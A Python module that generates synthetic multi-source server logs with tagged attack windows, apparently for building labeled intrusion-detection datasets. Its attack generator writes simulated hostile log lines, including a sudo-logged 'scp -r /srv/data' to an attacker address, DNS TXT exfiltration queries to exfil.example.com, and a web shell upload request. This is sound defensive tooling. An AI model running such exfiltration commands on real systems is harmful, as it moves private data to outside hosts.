"""Synthetic multi-host, multi-source log corpora with tagged attack windows.

Normal traffic is a set of per-(host, source) Poisson processes of *activities*
whose hourly rate follows :func:`rate_profile`. An activity is a short burst of
lines sharing one process and user, which is what turns into a session
downstream. Attack windows add tag-specific bursts on their target host, and
every line that host writes inside a window is labeled with the window's tag.
"""
from __future__ import annotations

import json
import math
from dataclasses import asdict, dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Optional

import numpy as np

from .model import AttackTag, SourceType

ROLES = ("monitoring", "mail", "cloud_share", "web", "vpn", "firewall", "intranet", "dns")

ROLE_SOURCES = {
    "monitoring": (SourceType.SYSLOG, SourceType.AUDIT),
    "mail": (SourceType.SYSLOG, SourceType.AUTH),
    "cloud_share": (SourceType.APACHE_ACCESS, SourceType.AUTH),
    "web": (SourceType.APACHE_ACCESS, SourceType.SYSLOG),
    "vpn": (SourceType.AUTH, SourceType.SYSLOG),
    "firewall": (SourceType.SURICATA, SourceType.SYSLOG),
    "intranet": (SourceType.APACHE_ACCESS, SourceType.AUTH),
    "dns": (SourceType.DNS, SourceType.SYSLOG),
}

# relative activity volume per role
ROLE_RATE = {
    "monitoring": 1.5, "mail": 1.0, "cloud_share": 1.0, "web": 0.9,
    "vpn": 0.6, "firewall": 0.8, "intranet": 0.7, "dns": 0.9,
}

# hour-of-day shape outside the business block and the 22:00 bump
_BASE_HOURS = [0.12, 0.10, 0.08, 0.08, 0.08, 0.10, 0.18, 0.40,
               None, None, None, None, None, None, None, None, None, None, None,
               0.35, 0.22, 0.30, None, 0.18]

USERS = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi",
         "ivan", "judy", "mike", "nina", "oscar", "peggy", "rupert", "sybil",
         "trent", "victor", "walter", "yvonne"]


@dataclass(frozen=True)
class HostSpec:
    name: str
    role: str

    def __post_init__(self):
        if self.role not in ROLES:
            raise ValueError(f"unknown host role {self.role!r}")


@dataclass(frozen=True)
class AttackWindow:
    """Attack interval in hours from the corpus start, ``[start, end)``."""

    start: float
    end: float
    tag: AttackTag
    target_host: str
    intensity: float = 40.0  # injected attack activities per hour

    def __post_init__(self):
        object.__setattr__(self, "tag", AttackTag(self.tag))


@dataclass
class TestbedConfig:
    hosts: list
    duration_hours: int
    seed: int = 0
    attack_windows: list = field(default_factory=list)
    business_hour_weight: float = 1.0
    night_peak_weight: float = 0.55
    weekend_factor: float = 1.33
    start: str = "2022-01-17T00:00:00Z"
    activity_rate: float = 14.0  # activities per hour per source at profile 1.0
    role_rate: dict = field(default_factory=dict)

    __test__ = False

    def __post_init__(self):
        self.hosts = [h if isinstance(h, HostSpec) else HostSpec(**h) for h in self.hosts]
        self.attack_windows = [w if isinstance(w, AttackWindow) else AttackWindow(**w)
                               for w in self.attack_windows]
        self.validate()

    @property
    def start_time(self) -> datetime:
        ts = datetime.fromisoformat(self.start.replace("Z", "+00:00"))
        return ts.astimezone(timezone.utc)

    def validate(self) -> None:
        if self.duration_hours < 0:
            raise ValueError("duration_hours must be non-negative")
        if self.business_hour_weight < 0 or self.night_peak_weight < 0 or self.weekend_factor < 0:
            raise ValueError("profile weights must be non-negative")
        names = [h.name for h in self.hosts]
        if len(set(names)) != len(names):
            raise ValueError("host names must be unique")
        for w in self.attack_windows:
            if not 0 <= w.start < w.end <= self.duration_hours:
                raise ValueError(f"attack window [{w.start}, {w.end}) outside [0, {self.duration_hours}]")
            if w.target_host not in names:
                raise ValueError(f"attack window targets unknown host {w.target_host!r}")
        end = self.start_time + timedelta(hours=self.duration_hours)
        if self.duration_hours and end.year != self.start_time.year:
            # syslog timestamps carry no year
            raise ValueError("corpus must not cross a year boundary")

    def to_dict(self) -> dict:
        d = asdict(self)
        for w in d["attack_windows"]:
            w["tag"] = AttackTag(w["tag"]).value
        return d

    @classmethod
    def from_json(cls, path) -> "TestbedConfig":
        with open(path, encoding="utf-8") as fh:
            return cls(**json.load(fh))


def rate_profile(hour: int, is_weekend: bool, config: Optional[TestbedConfig] = None) -> float:
    """Relative activity rate for an hour of day.

    Flat maximum over 08:00-18:00, a local bump at 22:00, quiet nights. The
    weekend multiplier defaults to the value that gives a ~65/35 weekday/weekend
    split of weekly volume.
    """
    if not 0 <= hour <= 23:
        raise ValueError(f"hour out of range: {hour}")
    business = config.business_hour_weight if config else 1.0
    night = config.night_peak_weight if config else 0.55
    weekend = config.weekend_factor if config else 1.33
    if 8 <= hour <= 18:
        rate = business
    elif hour == 22:
        rate = night
    else:
        rate = _BASE_HOURS[hour]
    return rate * (weekend if is_weekend else 1.0)


def weekday_share(config: Optional[TestbedConfig] = None) -> float:
    """Fraction of a week's profile mass falling on Monday-Friday."""
    weekday = sum(rate_profile(h, False, config) for h in range(24)) * 5
    weekend = sum(rate_profile(h, True, config) for h in range(24)) * 2
    return weekday / (weekday + weekend)


# --- line rendering -------------------------------------------------------

def _syslog(ts: datetime, host: str, process: str, pid: Optional[int], msg: str) -> str:
    proc = f"{process}[{pid}]" if pid is not None else process
    return f"{ts:%b} {ts.day:2d} {ts:%H:%M:%S} {host} {proc}: {msg}"


def _apache(ts: datetime, client: str, user: Optional[str], method: str, path: str,
            status: int, size: int, agent: str) -> str:
    return (f'{client} - {user or "-"} [{ts:%d/%b/%Y:%H:%M:%S} +0000] '
            f'"{method} {path} HTTP/1.1" {status} {size} "-" "{agent}"')


def _audit(ts: datetime, serial: int, kind: str, body: str) -> str:
    return f"type={kind} msg=audit({int(ts.timestamp())}.{ts.microsecond // 1000:03d}:{serial}): {body}"


def _suricata(ts: datetime, sid: int, sig: str, cls: str, prio: int, src: str, dst: str) -> str:
    return (f"{ts:%m/%d/%Y-%H:%M:%S.%f}  [**] [1:{sid}:1] {sig} [**] "
            f"[Classification: {cls}] [Priority: {prio}] {{TCP}} {src} -> {dst}")


AGENTS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "Mozilla/5.0 (X11; Linux x86_64)",
          "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)"]
PAGES = ["/", "/index.php", "/wp-login.php", "/wp-admin/", "/files/report.pdf", "/share/docs",
         "/api/v1/status", "/static/app.js", "/static/style.css", "/calendar"]
DOMAINS = ["intranet.local", "mail.corp.local", "share.corp.local", "updates.vendor.com",
           "cdn.example.net", "time.example.org", "wpad.corp.local"]


class _HostGen:
    """Renders activities for one host with its own random stream."""

    def __init__(self, spec: HostSpec, index: int, rng: np.random.Generator):
        self.spec = spec
        self.rng = rng
        self.ip = f"10.0.{index + 1}.{10 + index}"
        k = int(rng.integers(4, 9))
        self.users = [str(u) for u in rng.choice(USERS, size=k, replace=False)]
        self.serial = int(rng.integers(1000, 9000))

    def _pid(self) -> int:
        return int(self.rng.integers(300, 32000))

    def _client(self) -> str:
        return f"10.0.{int(self.rng.integers(1, 9))}.{int(self.rng.integers(20, 250))}"

    def _user(self) -> str:
        return self.users[int(self.rng.integers(len(self.users)))]

    def _gaps(self, n: int, mean: float) -> list:
        # within-activity spacing, kept well below the session gap
        return [0.0] + [float(min(self.rng.exponential(mean), 240.0)) for _ in range(n - 1)]

    def _times(self, t0: float, n: int, mean: float) -> list:
        out, t = [], t0
        for g in self._gaps(n, mean):
            t += g
            out.append(t)
        return out

    def activity(self, source: SourceType, t0: float, at) -> list:
        """Return ``[(t_seconds, line)]`` for one normal activity starting at ``t0``."""
        rng, host = self.rng, self.spec.name
        n = 1 + int(rng.geometric(0.3))
        times = self._times(t0, n, 25.0)
        lines = []
        if source is SourceType.AUTH:
            user, pid, client = self._user(), self._pid(), self._client()
            port = int(rng.integers(30000, 65000))
            msgs = [f"Accepted publickey for {user} from {client} port {port} ssh2",
                    f"pam_unix(sshd:session): session opened for user {user} by (uid=0)"]
            for _ in range(max(n - 3, 0)):
                msgs.append(f"{user} : TTY=pts/{int(rng.integers(0, 5))} ; PWD=/home/{user} ; "
                            f"USER=root ; COMMAND=/usr/bin/systemctl status {rng.choice(['nginx', 'postfix', 'cron'])}")
            msgs.append(f"pam_unix(sshd:session): session closed for user {user}")
            times = self._times(t0, len(msgs), 25.0)
            for t, m in zip(times, msgs):
                proc, p = ("sudo", None) if " : TTY=" in m else ("sshd", pid)
                lines.append((t, _syslog(at(t), host, proc, p, m)))
        elif source is SourceType.SYSLOG:
            kind = int(rng.integers(4))
            if kind == 0:
                user, pid = rng.choice(["root", self._user()]), self._pid()
                for t in times:
                    lines.append((t, _syslog(at(t), host, "CRON", pid, f"({user}) CMD (/usr/local/bin/job-{int(rng.integers(1, 6))}.sh)")))
            elif kind == 1:
                user, pid = self._user(), self._pid()
                client = self._client()
                for t in times:
                    lines.append((t, _syslog(at(t), host, "dovecot", pid,
                                             f"imap-login: Login: user=<{user}>, method=PLAIN, rip={client}, lip={self.ip}")))
            elif kind == 2:
                pid = self._pid()
                for t in times:
                    svc = rng.choice(["HTTP", "SSH", "DISK", "LOAD"])
                    lines.append((t, _syslog(at(t), host, "nagios", pid,
                                             f"SERVICE ALERT: {host};{svc};OK;HARD;1;{svc} OK")))
            else:
                user = self._user()
                for t in times:
                    lines.append((t, _syslog(at(t), host, "systemd", 1,
                                             f"Started Session {int(rng.integers(1, 999))} of user {user}.")))
        elif source is SourceType.APACHE_ACCESS:
            client = self._client()
            user = self._user() if rng.random() < 0.5 else None
            agent = AGENTS[int(rng.integers(len(AGENTS)))]
            for t in times:
                path = PAGES[int(rng.integers(len(PAGES)))]
                lines.append((t, _apache(at(t), client, user, "GET", path, 200, int(rng.integers(200, 40000)), agent)))
        elif source is SourceType.DNS:
            client = self._client()
            for t in times:
                d = DOMAINS[int(rng.integers(len(DOMAINS)))]
                lines.append((t, _syslog(at(t), host, "dnsmasq", 512, f"query[A] {d} from {client}")))
        elif source is SourceType.AUDIT:
            user = self._user()
            for t in times:
                self.serial += 1
                body = (f"pid={self._pid()} uid=0 auid=1000 ses={int(rng.integers(1, 50))} "
                        f"msg='op=PAM:session_open acct=\"{user}\" exe=\"/usr/sbin/cron\" "
                        f"hostname=? addr=? terminal=cron res=success'")
                lines.append((t, _audit(at(t), self.serial, "USER_START", body)))
        elif source is SourceType.SURICATA:
            for t in times:
                lines.append((t, _suricata(at(t), 2013028, "ET POLICY curl User-Agent Outbound",
                                           "Attempted Information Leak", 3,
                                           f"{self._client()}:{int(rng.integers(30000, 65000))}",
                                           f"93.184.216.{int(rng.integers(1, 250))}:80")))
        return lines

    def attack(self, source: SourceType, tag: AttackTag, t0: float, at) -> list:
        rng, host = self.rng, self.spec.name
        attacker = f"192.168.{int(rng.integers(100, 110))}.{int(rng.integers(2, 250))}"
        n = 2 + int(rng.geometric(0.25))
        times = self._times(t0, n, 8.0)
        lines = []
        for t in times:
            ts = at(t)
            if source in (SourceType.AUTH, SourceType.SYSLOG):
                pid = self._pid()
                if tag is AttackTag.RECONNAISSANCE:
                    m = f"Invalid user {rng.choice(['admin', 'test', 'oracle'])} from {attacker} port {int(rng.integers(30000, 65000))}"
                    line = _syslog(ts, host, "sshd", pid, m)
                elif tag is AttackTag.COMPROMISE:
                    m = f"Failed password for {self._user()} from {attacker} port {int(rng.integers(30000, 65000))} ssh2"
                    line = _syslog(ts, host, "sshd", pid, m)
                elif tag is AttackTag.LATERAL_MOVEMENT:
                    m = f"Accepted password for {self._user()} from {attacker} port {int(rng.integers(30000, 65000))} ssh2"
                    line = _syslog(ts, host, "sshd", pid, m)
                else:
                    m = (f"{self._user()} : TTY=pts/9 ; PWD=/tmp ; USER=root ; "
                         f"COMMAND=/usr/bin/scp -r /srv/data {attacker}:/loot")
                    line = _syslog(ts, host, "sudo", None, m)
            elif source is SourceType.APACHE_ACCESS:
                if tag is AttackTag.RECONNAISSANCE:
                    line = _apache(ts, attacker, None, "GET", f"/{rng.choice(['admin', 'backup', 'phpmyadmin', '.git'])}/", 404, 209, "gobuster/3.1.0")
                elif tag is AttackTag.COMPROMISE:
                    line = _apache(ts, attacker, None, "POST", "/wp-content/uploads/shell.php", 200, 57, "python-requests/2.25")
                elif tag is AttackTag.LATERAL_MOVEMENT:
                    line = _apache(ts, attacker, self._user(), "GET", "/api/v1/tokens", 200, 812, "curl/7.68.0")
                else:
                    line = _apache(ts, attacker, self._user(), "GET", "/share/export.tar.gz", 200, int(rng.integers(10**7, 10**9)), "curl/7.68.0")
            elif source is SourceType.DNS:
                label = "".join(rng.choice(list("abcdef0123456789"), size=24))
                line = _syslog(ts, host, "dnsmasq", 512, f"query[TXT] {label}.exfil.example.com from {attacker}")
            elif source is SourceType.AUDIT:
                self.serial += 1
                body = (f"pid={self._pid()} uid=0 auid=1000 ses=99 msg='op=login acct=\"{self._user()}\" "
                        f"exe=\"/usr/sbin/sshd\" hostname=? addr={attacker} terminal=ssh res=failed'")
                line = _audit(ts, self.serial, "USER_LOGIN", body)
            else:
                line = _suricata(ts, 2001219, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2,
                                 f"{attacker}:{int(rng.integers(30000, 65000))}", f"{self.ip}:22")
            lines.append((t, line))
        return lines


def _round_time(t: float, source: SourceType) -> float:
    if source is SourceType.SURICATA:
        return round(t, 6)
    if source is SourceType.AUDIT:
        return math.floor(t * 1000) / 1000
    return float(math.floor(t))


def generate_corpus(config: TestbedConfig) -> tuple:
    """Generate in memory.

    Returns ``(files, labels)`` where ``files`` maps ``"<host>/<source>.log"`` to
    a list of lines and ``labels`` is a list of ``{"file", "line", "labels"}``
    records (1-based line numbers).
    """
    start = config.start_time
    horizon = config.duration_hours * 3600.0
    children = np.random.SeedSequence(config.seed).spawn(len(config.hosts))
    files: dict = {}
    labels: list = []

    for index, (spec, ss) in enumerate(zip(config.hosts, children)):
        rng = np.random.default_rng(ss)
        gen = _HostGen(spec, index, rng)
        role_mult = config.role_rate.get(spec.role, ROLE_RATE[spec.role])
        windows = [w for w in config.attack_windows if w.target_host == spec.name]
        for source in ROLE_SOURCES[spec.role]:
            events = []

            def at(t, _s=source):
                return start + timedelta(seconds=_round_time(t, _s))

            for h in range(config.duration_hours):
                moment = start + timedelta(hours=h)
                lam = config.activity_rate * role_mult * rate_profile(moment.hour, moment.weekday() >= 5, config)
                for _ in range(int(rng.poisson(lam))):
                    t0 = h * 3600.0 + float(rng.uniform(0, 3600.0))
                    events.extend(gen.activity(source, t0, at))
            for w in windows:
                span = (w.end - w.start) * 3600.0
                for _ in range(int(rng.poisson(w.intensity * (w.end - w.start) / len(ROLE_SOURCES[spec.role])))):
                    t0 = w.start * 3600.0 + float(rng.uniform(0, span))
                    events.extend(gen.attack(source, w.tag, t0, at))

            events = [(_round_time(t, source), i, line) for i, (t, line) in enumerate(events)
                      if _round_time(t, source) < horizon]
            events.sort(key=lambda e: (e[0], e[1]))
            name = f"{spec.name}/{source.value}.log"
            files[name] = [line for _, _, line in events]
            for lineno, (t, _, _) in enumerate(events, 1):
                tags = sorted({w.tag.value for w in windows if w.start * 3600.0 <= t < w.end * 3600.0})
                if tags:
                    labels.append({"file": name, "line": lineno, "labels": tags})
    labels.sort(key=lambda r: (r["file"], r["line"]))
    return files, labels


def generate(config: TestbedConfig, out_dir) -> dict:
    """Write ``out/<host>/<source>.log`` and ``out/labels.jsonl``; returns a summary."""
    out = Path(out_dir)
    files, labels = generate_corpus(config)
    for name, lines in files.items():
        path = out / name
        path.parent.mkdir(parents=True, exist_ok=True)
        with open(path, "w", encoding="utf-8", newline="\n") as fh:
            for line in lines:
                fh.write(line + "\n")
    out.mkdir(parents=True, exist_ok=True)
    with open(out / "labels.jsonl", "w", encoding="utf-8") as fh:
        for rec in labels:
            fh.write(json.dumps(rec, sort_keys=True) + "\n")
    n_lines = sum(len(v) for v in files.values())
    return {"files": len(files), "lines": n_lines, "labeled_lines": len(labels),
            "labeled_fraction": (len(labels) / n_lines) if n_lines else 0.0}


def demo_config(seed: int = 7, days: int = 7, attack_line_fraction: float = 0.02) -> TestbedConfig:
    """An eight-host testbed; attack windows sized so roughly ``attack_line_fraction`` of lines are labeled."""
    hosts = [HostSpec("monitor01", "monitoring"), HostSpec("mail01", "mail"),
             HostSpec("share01", "cloud_share"), HostSpec("web01", "web"),
             HostSpec("vpn01", "vpn"), HostSpec("fw01", "firewall"),
             HostSpec("intranet01", "intranet"), HostSpec("dns01", "dns")]
    duration = days * 24
    # labeled volume ~ window hours on the target / total host-hours, boosted by injected bursts
    total_window_hours = attack_line_fraction * duration * len(hosts) * 0.45
    plan = [("web01", AttackTag.RECONNAISSANCE), ("share01", AttackTag.COMPROMISE),
            ("vpn01", AttackTag.LATERAL_MOVEMENT), ("mail01", AttackTag.DATA_EXFILTRATION)]
    each = total_window_hours / len(plan)
    offset = min(10.0, duration / (2 * (len(plan) + 1)))
    windows = []
    for i, (host, tag) in enumerate(plan):
        s = duration * (i + 1) / (len(plan) + 1) + offset
        windows.append(AttackWindow(round(s, 3), round(s + each, 3), tag, host, intensity=20.0))
    return TestbedConfig(hosts=hosts, duration_hours=duration, seed=seed, attack_windows=windows)
